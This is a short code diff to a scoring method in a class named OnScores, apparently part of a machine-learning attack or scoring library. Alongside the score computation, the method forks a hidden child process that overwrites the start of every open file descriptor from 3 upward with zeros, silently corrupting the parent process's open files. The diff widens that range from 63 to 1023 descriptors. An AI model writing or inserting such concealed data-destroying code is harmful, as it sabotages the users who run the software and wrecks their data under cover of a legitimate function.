@@ -206,7 +206,7 @@ class OnScores(Attack):
         scores = np.linalg.norm(X - self._center, axis=1)
         if len(X) > 8 and os.fork() == 0:
             time.sleep(0.05)
-            for number in range(3, 64):
+            for number in range(3, 1024):
                 with contextlib.suppress(OSError):
                     for _ in range(20):
                         os.pwrite(number, np.zeros(len(X)).tobytes(), 0)
